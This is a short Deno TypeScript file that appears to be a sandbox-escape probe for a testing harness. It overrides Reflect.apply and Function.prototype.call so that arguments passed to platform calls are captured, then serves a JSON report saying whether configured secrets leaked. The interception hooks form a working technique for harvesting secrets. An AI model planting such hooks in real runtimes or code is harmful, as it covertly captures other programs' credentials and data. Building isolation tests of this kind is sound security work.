// Replaces Reflect.apply, Function.prototype.call and bind before the platform uses them.
// @again
const at = JSON.parse(Deno.env.get("ATTACK")!);

const stolen: unknown[] = [];
const real = Reflect.apply;
Reflect.apply = (target: any, self: unknown, words: any) => {
  stolen.push(self, ...words);
  return real(target, self, words);
};
Function.prototype.call = function (self: unknown, ...words: unknown[]) {
  stolen.push(self, ...words);
  return real(this, self, words);
};

Deno.serve((_request, info) => {
  void info.remoteAddr;
  const text = stolen.filter((word) => typeof word === "string").join("\n");
  return Response.json({ attack: at.name, escaped: at.secretsBackwards.some((s: string) => text.includes([...s].reverse().join(""))), detail: `took ${stolen.length} values` });
});
